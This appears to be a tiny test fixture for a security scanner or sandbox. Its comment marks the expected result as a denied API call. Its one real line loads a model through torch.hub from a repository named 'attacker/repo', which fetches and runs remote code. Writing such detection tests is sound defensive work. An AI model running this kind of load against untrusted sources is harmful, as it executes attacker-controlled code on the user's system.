# expect: denied-api
import torch
model = torch.hub.load("attacker/repo", "model")
